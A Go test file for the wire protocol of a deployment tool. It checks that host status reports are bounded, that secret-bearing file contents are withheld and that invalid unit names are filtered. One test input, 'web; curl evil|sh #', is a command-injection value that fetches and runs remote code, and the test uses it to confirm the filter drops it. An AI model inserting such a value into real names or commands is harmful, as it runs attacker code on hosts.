package wire_test

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"

	"bellhop/internal/bundle"
	"bellhop/internal/bundle/wire"
)

// seen sends s over the wire to a deployer that asked a.
func seen(t *testing.T, s bundle.Seen, a bundle.Look) (*bundle.HostSeen, error) {
	t.Helper()
	var sent bytes.Buffer
	if err := wire.WriteFrame(&sent, bundle.FrameSeen, s); err != nil {
		t.Fatal(err)
	}

	r := wire.NewHostReader(&sent, 10)
	r.ExpectSeen(a)
	m, err := r.Next()
	if err != nil {
		return nil, err
	}
	return m.(*bundle.HostSeen), nil
}

func TestSeenOverTheWire(t *testing.T) {
	large := bytes.Repeat([]byte("all work\x00and no play\n"), bundle.MaxLookFile/21)
	want := bundle.Seen{
		BootID: "b", RebootRequired: true, RebootReason: "/run/reboot-required", Generation: 7, Running: 3,
		FailedUnits: []bundle.FailedUnit{{Name: "bot.service", Result: "exit-code", Since: 1700000000}},
		Drift:       []bundle.Drift{{Kind: bundle.KindFile, Name: "/etc/bot", What: bundle.DriftMode, Want: "0644", Is: "0666"}},
		KeysMissing: []string{"bot"},
		Contents:    []bundle.Content{{Bytes: large}, {Why: bundle.WhyKey}},
		Read:        2,
		Units:       []bundle.UnitSeen{{Name: "bot.service", Active: "failed", Sub: "failed"}, {Name: "shop:db", Active: "active", Sub: "healthy"}},
	}
	got, err := seen(t, want, bundle.Look{Contents: []string{"/etc/bot", "/etc/key"}})
	if err != nil {
		t.Fatal(err)
	}
	if out := wire.FilterSeen(got, func(s string) string { return s }); !reflect.DeepEqual(*out, want) {
		t.Errorf("seen = %.300v, want %.300v", *out, want)
	}
}

func TestSeenIsBounded(t *testing.T) {
	for name, s := range map[string]bundle.Seen{
		"files that nobody asked for": {Contents: []bundle.Content{{Bytes: []byte("a")}}},
		"a number below zero":         {DriftMore: -1},
		"a time out of the calendar":  {FailedUnits: []bundle.FailedUnit{{Since: 1 << 60}}},
		"a long text":                 {RebootReason: strings.Repeat("x", 4*bundle.MaxLookFile)},
	} {
		if _, err := seen(t, s, bundle.Look{}); !errors.Is(err, wire.ErrProtocol) {
			t.Errorf("%s: %v, want ErrProtocol", name, err)
		}
	}

	var sent bytes.Buffer
	wire.WriteFrame(&sent, bundle.FrameSeen, bundle.Seen{})
	if _, err := wire.NewHostReader(&sent, 10).Next(); !errors.Is(err, wire.ErrProtocol) {
		t.Errorf("a seen that nobody asked for: %v, want ErrProtocol", err)
	}
}

// Bytes that the filter would change do not come at all, wherever in the file they are, and do not move
// others to another place.
func TestFilterSeenWithholdsKeys(t *testing.T) {
	const value = "s3cr3t-value"
	filter := func(s string) string { return strings.ReplaceAll(s, value, "‹key›") }
	file := strings.Repeat("a line\n", 5000)

	in, err := seen(t, bundle.Seen{Contents: []bundle.Content{{Bytes: []byte(file + value)}, {Bytes: []byte(file)}}},
		bundle.Look{Contents: []string{"/etc/a", "/etc/b"}})
	if err != nil {
		t.Fatal(err)
	}
	want := []bundle.Content{{Why: bundle.WhyKey}, {Bytes: []byte(file)}}
	if got := wire.FilterSeen(in, filter).Contents; !reflect.DeepEqual(got, want) {
		t.Errorf("contents = %.200v, want %.200v", got, want)
	}
}

// Drift without room is counted.
func TestFilterSeenCountsDrift(t *testing.T) {
	var s bundle.Seen
	for range bundle.MaxDrift {
		s.Drift = append(s.Drift, bundle.Drift{Kind: bundle.KindFile, Name: "/etc/" + strings.Repeat("x", 300), What: bundle.DriftChanged})
	}
	s.DriftMore = 5
	in, err := seen(t, s, bundle.Look{})
	if err != nil {
		t.Fatal(err)
	}
	out := wire.FilterSeen(in, func(s string) string { return s })
	if out.DriftCount() != bundle.MaxDrift+5 || len(out.Drift) == bundle.MaxDrift {
		t.Errorf("%d of drift, %d listed; want %d, and fewer listed", out.DriftCount(), len(out.Drift), bundle.MaxDrift+5)
	}
}

// The name of a failed unit stands in commands that people are told to type: what is no name of a unit is dropped, and so
// are more than anybody has.
func TestFilterSeenKeepsNamesOfUnits(t *testing.T) {
	var said bundle.Seen
	for _, name := range []string{"web.service", `dev-disk-by\\x2dlabel.mount`, "getty@tty1.service", "web; curl evil|sh #", "", "a b.service"} {
		said.FailedUnits = append(said.FailedUnits, bundle.FailedUnit{Name: name})
	}
	for range 5000 {
		said.FailedUnits = append(said.FailedUnits, bundle.FailedUnit{Name: "m.service"})
		said.Units = append(said.Units, bundle.UnitSeen{Name: "m.service", Active: "active"})
	}
	in, err := seen(t, said, bundle.Look{})
	if err != nil {
		t.Fatal(err)
	}

	out := wire.FilterSeen(in, func(s string) string { return s })
	if len(out.FailedUnits) != 256 || out.FailedUnits[0].Name != "web.service" || out.FailedUnits[2].Name != "getty@tty1.service" || out.FailedUnits[3].Name != "m.service" {
		t.Errorf("%d units: %v", len(out.FailedUnits), out.FailedUnits[:min(4, len(out.FailedUnits))])
	}
	if len(out.Units) != 4096 {
		t.Errorf("states of %d units, 4096 are kept", len(out.Units))
	}
}
